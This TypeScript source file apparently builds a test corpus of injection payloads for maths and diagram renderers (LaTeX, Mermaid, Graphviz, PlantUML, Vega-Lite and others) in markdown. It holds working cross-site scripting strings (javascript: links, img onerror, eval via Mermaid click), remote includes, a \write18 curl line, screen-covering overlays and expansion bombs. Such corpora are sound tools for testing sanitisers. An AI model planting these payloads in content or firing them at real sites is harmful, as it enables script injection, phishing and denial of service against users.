import { family, type Payload } from './payload'

const { raw } = String
const FENCE = '```'

/** LaTeX and diagrams, which other pages draw with plugins that know links, classes and files. */
export function mathsAndDiagrams(origin: string): Payload[] {
  return family(
    origin,
    {
      'maths-href': ({ url }) => raw`$\href{${url}}{x}$`,
      'maths-href-script': ({ script }) => raw`$\href{javascript:${script}}{x}$`,
      'maths-url': ({ script }) => raw`$$\url{javascript:${script}}$$`,
      'maths-graphics': ({ url }) => raw`$\includegraphics[width=9em]{${url}}$`,
      'maths-html-data': ({ url }) => raw`$\htmlData{x=${url}}{y}$`,
      'maths-html-style': ({ url }) => raw`$\htmlStyle{background:url(${url})}{y}$`,
      'maths-html-class': () => raw`$\htmlClass{fixed inset-0}{y}$ $\htmlId{question}{z}$`,
      'maths-text': ({ script }) => raw`$\text{<img src=x onerror="${script}">}$`,
      'maths-unicode': ({ script }) => raw`$\unicode{<img src=x onerror="${script}">}$`,
      'maths-require': ({ url }) =>
        raw`$\require{${url}}$ $\input{${url}}$ $\write18{curl ${url}}$`,
      'maths-style': ({ script }) => raw`\[\style{x}{y}\class{z}{w} <script>${script}</script>\]`,
      'maths-round-brackets': ({ url }) => raw`\(\href{${url}}{x}\) and \\(y\\)`,
      'maths-all-commands': ({ url, script }) =>
        raw`\(\href{${url}}{x}\) \(\url{javascript:${script}}\) \(\includegraphics{${url}}\) \(\htmlData{x=${url}}{y}\)`,
      'maths-lines-of-its-own': ({ url }) =>
        raw`\[${'\n'}\includegraphics[height=9em]{${url}}${'\n'}\]`,
      'maths-that-covers': () =>
        raw`$$\color{white}{x}\hspace{-99em}\rule{99em}{99em}\raisebox{99em}{y}\kern-99em z$$`,
      'maths-deep': () => raw`$$${raw`\sqrt{`.repeat(90)}x${'}'.repeat(90)}$$`,
      'maths-code-in-text': ({ script }) =>
        raw`$$\text{<annotation-xml encoding="text/html"><img src=x onerror="${script}">}$$`,
      'maths-macro-bomb': () => raw`$$\def\a{xxxxxxxxxx}\def\b{\a\a\a\a}\def\c{\b\b\b\b}\c\c\c\c$$`,
      'maths-block': ({ script }) => `$$\n<img src=x onerror="${script}">\n\\frac{1}{2}\n$$`,
      'maths-fence': ({ script }) =>
        raw`${FENCE}math${'\n'}\href{javascript:${script}}{x}${'\n'}${FENCE}`,
      'maths-element': ({ script }) =>
        `<math><semantics><annotation-xml encoding="text/html"><img src=x onerror="${script}"></annotation-xml></semantics></math>`,
      'diagram-click-address': ({ url }) =>
        `${FENCE}mermaid\ngraph TD\nA[a] --> B\nclick A "${url}" _self\n${FENCE}`,
      'diagram-click-call': ({ script }) =>
        `${FENCE}mermaid\ngraph TD\nA --> B\nclick A call eval("${script}")\n${FENCE}`,
      'diagram-label-with-html': ({ url, script }) =>
        `${FENCE}mermaid\ngraph TD\nA["<img src='${url}' onerror='${script}'>"]\n${FENCE}`,
      'diagram-directive': ({ url }) =>
        `${FENCE}mermaid\n%%{init: {"securityLevel": "loose", "themeCSS": "@import url(${url})"}}%%\ngraph TD\nA\n${FENCE}`,
      'diagram-graphviz': ({ url, script }) =>
        `${FENCE}dot\ndigraph { a [image="${url}" URL="javascript:${script}"] }\n${FENCE}`,
      'diagram-plantuml': ({ url }) =>
        `${FENCE}plantuml\n@startuml\n!include ${url}\n@enduml\n${FENCE}`,
      'diagram-vega': ({ url }) =>
        `${FENCE}vega-lite\n{"data": {"url": "${url}"}, "mark": "bar"}\n${FENCE}`,
      'diagram-geojson': ({ url }) =>
        `${FENCE}geojson\n{"type": "Feature", "properties": {"marker-symbol": "${url}"}}\n${FENCE}`,
      'diagram-music': ({ url }) => `${FENCE}abc\nX:1\nT:<img src="${url}">\nK:C\n${FENCE}`,
    },
    {
      'maths-never-closed': ({ url }) => raw`$$\href{${url}}{x`,
    },
  )
}
